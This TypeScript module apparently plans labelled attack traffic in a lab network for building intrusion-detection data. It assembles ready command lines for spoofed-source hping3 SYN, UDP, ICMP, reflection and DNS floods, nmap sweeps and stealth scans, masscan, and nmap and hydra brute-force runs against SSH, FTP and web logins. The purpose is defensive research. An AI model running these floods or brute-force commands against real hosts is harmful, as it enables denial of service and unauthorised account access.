import type { Prng } from "../prng.ts";
import type { LabHost, LabNetwork } from "./lab_network.ts";
import type { RunSettings } from "./run_settings.ts";
import type { PlannedSegment } from "./scenario_plan.ts";
import type { SweepSettings, WideAttackScenario } from "./wide_settings.ts";
import { cmd, DNS_ZONE, floodTimeoutMs, hostAddresses, PORTS, WORD_STEMS } from "./_plan_parts.ts";

/** Files of the wide scenarios, relative to the work directory. */
export const WIDE_FILES = Object.freeze({
  dnsQuery: "dns_query.bin",
  sshNmapUsers: "ssh_nmap_users.txt",
  sshNmapWords: "ssh_nmap_words.txt",
  ftpUsers: "ftp_users.txt",
  ftpWords: "ftp_words.txt",
  formUsers: "form_users.txt",
  formWords: "form_words.txt",
  slowUsers: "slow_users.txt",
  slowWords: "slow_words.txt",
});

/** A DNS query (id, RD flag, one question) for `name` type A, as hping3 sends it verbatim. */
export function dnsQueryPayload(name: string, id: number): string {
  const labels = name.split(".").map((l) => String.fromCharCode(l.length) + l).join("");
  // Every byte stays below 0x80, so the text file holds exactly these bytes.
  const idHi = (id >> 8) & 0x7f;
  const idLo = id & 0x7f;
  return String.fromCharCode(idHi, idLo, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0) + labels +
    String.fromCharCode(0, 0, 1, 0, 1);
}

/** Word lists and the DNS query payload of the wide attacks. */
export function buildWideAttackFiles(settings: RunSettings, r: Prng): Record<string, string> {
  const w = settings.wideAttacks;
  const words = (n: number) =>
    Array.from({ length: n }, (_, i) => `${r.pick(WORD_STEMS)}${r.int(0, 999)}${i % 4 ? "" : "?"}`)
      .join("\n") + "\n";
  return {
    [WIDE_FILES.dnsQuery]: dnsQueryPayload(`${w.dnsFlood.queryName}.${DNS_ZONE}`, r.int(1, 0x7f7f)),
    [WIDE_FILES.sshNmapUsers]: w.sshBruteNmap.users.join("\n") + "\n",
    [WIDE_FILES.sshNmapWords]: words(w.sshBruteNmap.passwords),
    [WIDE_FILES.ftpUsers]: w.hydraFtp.users.join("\n") + "\n",
    [WIDE_FILES.ftpWords]: words(w.hydraFtp.passwords),
    [WIDE_FILES.formUsers]: w.hydraForm.users.join("\n") + "\n",
    [WIDE_FILES.formWords]: words(w.hydraForm.passwords),
    [WIDE_FILES.slowUsers]: w.bruteSlow.users.join("\n") + "\n",
    [WIDE_FILES.slowWords]: words(w.bruteSlow.passwords),
  };
}

/** Where the wide attacks aim and what they read. */
export interface WideAttackContext {
  /** The lab layout. */
  network: LabNetwork;
  /** Absolute work directory holding {@link WIDE_FILES}. */
  workDir: string;
}

/**
 * Plans one wide attack from one attacker. Floods with random source
 * addresses aim at the network's victim address and list it in
 * `labelTargets`, because their sources cannot name them; everything else is
 * labelled by the attacker's own addresses. Sweeps skip the benign clients'
 * addresses so that no flow touches both an attacker and a benign host.
 */
export function wideAttackSegment(
  scenario: WideAttackScenario,
  settings: RunSettings,
  attacker: LabHost,
  ctx: WideAttackContext,
): PlannedSegment {
  const w = settings.wideAttacks;
  const { network, workDir } = ctx;
  const srv = network.hosts.srv;
  const victim = network.victim.ipv4;
  const file = (name: string) => `${workDir}/${name}`;
  const base = { host: attacker.name, sourceAddresses: hostAddresses(attacker), scenario };
  const hping = (
    mode: string[],
    s: { count: number; intervalUs: number; payloadBytes: number },
    target: string,
  ) => {
    const argv = ["hping3", "-q", ...mode, "-c", String(s.count), "-i", `u${s.intervalUs}`];
    if (s.payloadBytes > 0) argv.push("-d", String(s.payloadBytes));
    argv.push(target);
    return cmd(argv, floodTimeoutMs(s.count, s.intervalUs));
  };
  switch (scenario) {
    case "sweep_icmp":
    case "sweep_arp":
    case "sweep_tcp": {
      const s = scenario === "sweep_icmp"
        ? w.sweepIcmp
        : scenario === "sweep_arp"
        ? w.sweepArp
        : w.sweepTcp;
      const probe = scenario === "sweep_icmp"
        ? ["-PE", "--disable-arp-ping"]
        : scenario === "sweep_arp"
        ? ["-PR"]
        : [`-PS${s.port}`, "--disable-arp-ping"];
      const { range, addresses, exclude } = sweepRange(s, network);
      const argv = ["nmap", "-n", "-sn", ...probe, `-T${s.timing}`, "--max-retries", "1"];
      argv.push("--host-timeout", "30s", "--exclude", exclude.join(","), range);
      return {
        ...base,
        label: "portscan",
        target: {
          addresses,
          protocol: scenario === "sweep_tcp" ? "tcp" : scenario === "sweep_icmp" ? "icmp" : "mixed",
          ports: scenario === "sweep_tcp" ? String(s.port) : "",
        },
        commands: [cmd(argv, 90_000)],
        params: { ...s, range, exclude },
      };
    }
    case "syn_flood_rand":
    case "udp_flood_rand":
    case "icmp_flood_rand": {
      const kind = RANDOM_SOURCE_FLOODS[scenario];
      const s = w[kind.settings];
      const mode = kind.protocol === "icmp"
        ? ["--icmp"]
        : [...(kind.protocol === "tcp" ? ["-S"] : ["--udp"]), "-p", String(s.dstPort)];
      return {
        ...base,
        label: kind.label,
        labelTargets: [victim],
        target: {
          addresses: [victim],
          protocol: kind.protocol,
          ports: kind.protocol === "icmp" ? "" : String(s.dstPort),
        },
        commands: [hping([...mode, "--rand-source"], s, victim)],
        params: { ...s },
      };
    }
    case "reflect_udp": {
      const s = w.reflectUdp;
      const mode = [
        "--udp",
        "--rand-source",
        "-s",
        String(s.srcPort),
        "-k",
        "-p",
        String(s.dstPort),
      ];
      return {
        ...base,
        label: "udp_flood",
        labelTargets: [victim],
        target: { addresses: [victim], protocol: "udp", ports: String(s.dstPort) },
        commands: [hping(mode, s, victim)],
        params: { ...s },
      };
    }
    case "dns_flood": {
      const s = w.dnsFlood;
      const payload = dnsQueryPayload(`${s.queryName}.${DNS_ZONE}`, 0).length;
      const argv = [
        "hping3",
        "-q",
        "--udp",
        "-p",
        String(PORTS.dns),
        "-E",
        file(WIDE_FILES.dnsQuery),
      ];
      argv.push("-d", String(payload), "-c", String(s.count), "-i", `u${s.intervalUs}`, srv.ipv4);
      return {
        ...base,
        label: "udp_flood",
        target: { addresses: [srv.ipv4], protocol: "udp", ports: String(PORTS.dns) },
        commands: [cmd(argv, floodTimeoutMs(s.count, s.intervalUs))],
        params: { ...s },
      };
    }
    case "nmap_stealth": {
      const s = w.nmapStealth;
      const ports = `${s.firstPort}-${s.lastPort}`;
      const argv = [
        "nmap",
        "-n",
        "-Pn",
        s.flag,
        "-p",
        ports,
        `-T${s.timing}`,
        "--max-retries",
        "1",
      ];
      argv.push("--host-timeout", "100s", srv.ipv4);
      return {
        ...base,
        label: "portscan",
        target: { addresses: [srv.ipv4], protocol: "tcp", ports },
        commands: [cmd(argv, 130_000)],
        params: { ...s },
      };
    }
    case "nmap_dark": {
      const s = w.nmapDark;
      const ports = `${s.firstPort}-${s.lastPort}`;
      const argv = ["nmap", "-n", "-Pn", "-sS", "-p", ports, `-T${s.timing}`, "--max-retries", "0"];
      // --send-ip: nmap would otherwise ARP for the MAC itself, get no
      // answer and send nothing; the kernel's neighbour entry sends the
      // probes to a MAC nobody owns, so they reach the wire unanswered.
      argv.push("--send-ip", "--disable-arp-ping", "--host-timeout", "30s", network.darkTarget);
      return {
        ...base,
        label: "portscan",
        target: { addresses: [network.darkTarget], protocol: "tcp", ports },
        commands: [cmd(argv, 60_000)],
        params: { ...s },
      };
    }
    case "masscan": {
      const s = w.masscan;
      const ports = `${s.firstPort}-${s.lastPort}`;
      // masscan writes frames itself, so it needs the interface, its own
      // address and MAC, and the next hop's MAC (the server, on this LAN).
      const argv = [
        "masscan",
        srv.ipv4,
        "-p",
        ports,
        "--rate",
        String(s.ratePps),
        "--wait",
        "2",
        "--adapter",
        attacker.interface,
        "--adapter-ip",
        attacker.ipv4,
        "--adapter-mac",
        attacker.mac,
        "--router-mac",
        srv.mac,
      ];
      return {
        ...base,
        label: "portscan",
        target: { addresses: [srv.ipv4], protocol: "tcp", ports },
        // In the lab masscan sends every probe and then often never exits
        // (its receive thread keeps waiting), so the hard limit is the send
        // time plus its 2 s wait plus a margin, and the kill ends it.
        commands: [
          cmd(argv, Math.ceil(((s.lastPort - s.firstPort + 1) / s.ratePps) * 1000) + 8_000),
        ],
        params: { ...s },
      };
    }
    case "ssh_brute_nmap": {
      const s = w.sshBruteNmap;
      const args = [
        `userdb=${file(WIDE_FILES.sshNmapUsers)}`,
        `passdb=${file(WIDE_FILES.sshNmapWords)}`,
        "brute.firstonly=true",
        "unpwdb.timelimit=60s",
      ].join(",");
      const argv = ["nmap", "-n", "-Pn", "-p", String(PORTS.ssh), "--max-retries", "1"];
      argv.push("--host-timeout", "90s", "--script", "ssh-brute", "--script-args", args, srv.ipv4);
      return {
        ...base,
        label: "bruteforce",
        target: { addresses: [srv.ipv4], protocol: "tcp", ports: String(PORTS.ssh) },
        commands: [cmd(argv, 120_000)],
        params: { ...s },
      };
    }
    case "hydra_ftp":
    case "hydra_form":
    case "brute_slow": {
      const slow = scenario === "brute_slow";
      const ftp = scenario === "hydra_ftp" || (slow && w.bruteSlow.service === "ftp");
      const [users, words] = scenario === "hydra_ftp"
        ? [WIDE_FILES.ftpUsers, WIDE_FILES.ftpWords]
        : scenario === "hydra_form"
        ? [WIDE_FILES.formUsers, WIDE_FILES.formWords]
        : [WIDE_FILES.slowUsers, WIDE_FILES.slowWords];
      const s = scenario === "hydra_ftp"
        ? w.hydraFtp
        : scenario === "hydra_form"
        ? w.hydraForm
        : w.bruteSlow;
      const argv = ["hydra", "-L", file(users), "-P", file(words), "-I", "-w", "10"];
      // `-c` waits between attempts like a person typing, and forces one task.
      if ("waitSec" in s) argv.push("-t", "1", "-c", String(s.waitSec));
      else argv.push("-t", String(s.tasks));
      if (ftp) argv.push(`ftp://${srv.ipv4}:${PORTS.ftp}`);
      else if (scenario === "hydra_form") {
        argv.push(
          "-s",
          String(PORTS.http),
          srv.ipv4,
          "http-post-form",
          "/cgi-bin/login.cgi:user=^USER^&pass=^PASS^:F=denied",
        );
      } else argv.push(`http-get://${srv.ipv4}:${PORTS.http}/private/`);
      const port = ftp ? PORTS.ftp : PORTS.http;
      return {
        ...base,
        label: "bruteforce",
        target: { addresses: [srv.ipv4], protocol: "tcp", ports: String(port) },
        commands: [cmd(argv, 150_000, 0, workDir)],
        params: { ...s },
      };
    }
  }
}

/** Class, transport and settings of each random-source flood. */
const RANDOM_SOURCE_FLOODS = {
  syn_flood_rand: { label: "syn_flood", protocol: "tcp", settings: "synFloodRand" },
  udp_flood_rand: { label: "udp_flood", protocol: "udp", settings: "udpFloodRand" },
  icmp_flood_rand: { label: "icmp_flood", protocol: "icmp", settings: "icmpFloodRand" },
} as const;

function sweepRange(
  s: SweepSettings,
  network: LabNetwork,
): { range: string; addresses: string[]; exclude: string[] } {
  const prefix = network.ipv4Cidr.split(".").slice(0, 3).join(".");
  const exclude = Object.values(network.hosts).filter((h) => h.role === "client").map((h) =>
    h.ipv4
  );
  const addresses = Array.from(
    { length: s.lastHost - s.firstHost + 1 },
    (_, i) => `${prefix}.${s.firstHost + i}`,
  ).filter((a) => !exclude.includes(a));
  return { range: `${prefix}.${s.firstHost}-${s.lastHost}`, addresses, exclude };
}
